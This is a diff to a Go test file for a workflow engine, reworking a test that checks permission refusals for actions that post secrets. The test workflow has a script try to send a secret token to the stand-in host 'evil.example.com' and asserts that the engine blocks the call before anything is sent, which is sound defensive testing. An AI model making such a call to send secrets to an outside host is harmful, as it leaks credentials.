@@ -33,7 +33,13 @@ type postOutput struct {
 // poster returns a harness with the action demo.post, which sends the text of its token to a
 // service. The service returns what it got.
 func poster(sent *[]string) *harness {
-	post := action.New(action.Spec{Name: "demo.post", Summary: "Post.", Effect: action.Reads},
+	h := newHarness(posting("demo.post", action.Reads, sent))
+	h.secrets = map[string]string{"TOKEN": secretText}
+	return h
+}
+
+func posting(name string, effect action.Effect, sent *[]string) *action.Action {
+	return action.New(action.Spec{Name: name, Summary: "Post.", Effect: effect},
 		func(ctx context.Context, in postInput) (postOutput, error) {
 			text, err := in.Token.Reveal(ctx, action.Destination(in.Host))
 			if err != nil {
@@ -48,9 +54,6 @@ func poster(sent *[]string) *harness {
 			}
 			return postOutput{Echo: "you sent " + text}, nil
 		}, action.Rules[postInput]{Targets: (*postInput).targets})
-	h := newHarness(post)
-	h.secrets = map[string]string{"TOKEN": secretText}
-	return h
 }
 
 const secretHead = `
@@ -187,31 +190,51 @@ func TestMissingSecret(t *testing.T) {
 	}
 }
 
-// A call that the workflow does not permit is refused before anything is recorded or sent. A
-// script can catch the error.
-func TestPermissionIsCheckedFirst(t *testing.T) {
-	var sent []string
-	h := poster(&sent)
-	source := `
+// TestP8Refusals: a call that the workflow does not permit is refused before anything is recorded or sent. The
+// refusal of a read ends the attempt, since a script would take it for a fact. The refusal of a write can be
+// caught, and the run goes on; but it is not a success, so on_failure runs.
+func TestP8Refusals(t *testing.T) {
+	const head = `
 secrets: {TOKEN: {hosts: ["*.example.com"]}}
 permissions: {http: ["https://api.example.com"]}
 steps:
 - id: s
+  continue_on_error: true
+  retry: {max_attempts: 3}
   lua: |
-    local ok, err = pcall(demo.post, {host = 'evil.example.com', token = secrets.TOKEN})
+    local ok, err = pcall(CALL, {host = 'evil.example.com', token = secrets.TOKEN})
     return {ok = ok, kind = err.kind, action = err.action, hint = err.hint}
-- uses: demo.post
-  with: {host: evil.example.com, token: "${{ secrets.TOKEN }}"}
+- id: later
+  lua: |
+    return {ran = true}
+on_failure:
+- id: told
+  lua: |
+    return {message = failure.message, step = failure.step}
 `
-	got := h.run(t, source)
-	wantFailure(t, got, run.Failed, action.Permission)
-	want := any(action.Object{
-		"ok": false, "kind": "permission", "action": "demo.post", "hint": `add it: permissions: {http: ["https://evil.example.com"]}`,
-	})
-	if diff := cmp.Diff(want, got.Steps[0].Outputs); diff != "" {
-		t.Errorf("the error that the script catches (-want +got):\n%s", diff)
-	}
-	if len(sent) > 0 || len(h.calls(run.EventCallStarted)) > 0 {
-		t.Errorf("got %v sent and %d calls recorded, want none", sent, len(h.calls(run.EventCallStarted)))
+	for call, caught := range map[string]any{
+		"demo.read": nil,
+		"demo.write": action.Object{
+			"ok": false, "kind": "permission", "action": "demo.write", "hint": `add it: permissions: {http: ["https://evil.example.com"]}`,
+		},
+	} {
+		var sent []string
+		h := newHarness(posting("demo.read", action.Reads, &sent), posting("demo.write", action.Once, &sent))
+		h.secrets = map[string]string{"TOKEN": secretText}
+		got := h.run(t, strings.Replace(head, "CALL", call, 1))
+		wantFailure(t, got, run.Failed, action.Permission)
+		if diff := cmp.Diff(caught, got.Steps[0].Outputs); diff != "" || got.Steps[0].Attempts != 1 {
+			t.Errorf("%s: what the script caught in %d attempts (-want +got):\n%s", call, got.Steps[0].Attempts, diff)
+		}
+		if got.Steps[1].Status != run.Success {
+			t.Errorf("%s: the later step ended as %s", call, got.Steps[1].Status)
+		}
+		told := action.Object{"message": "the workflow may not reach https://evil.example.com", "step": "s"}
+		if diff := cmp.Diff(any(told), got.Steps[2].Outputs); diff != "" {
+			t.Errorf("%s: what on_failure reads (-want +got):\n%s", call, diff)
+		}
+		if len(sent) > 0 || len(h.calls(run.EventCallStarted)) > 0 {
+			t.Errorf("%s: got %v sent and %d calls recorded, want none", call, sent, len(h.calls(run.EventCallStarted)))
+		}
 	}
 }
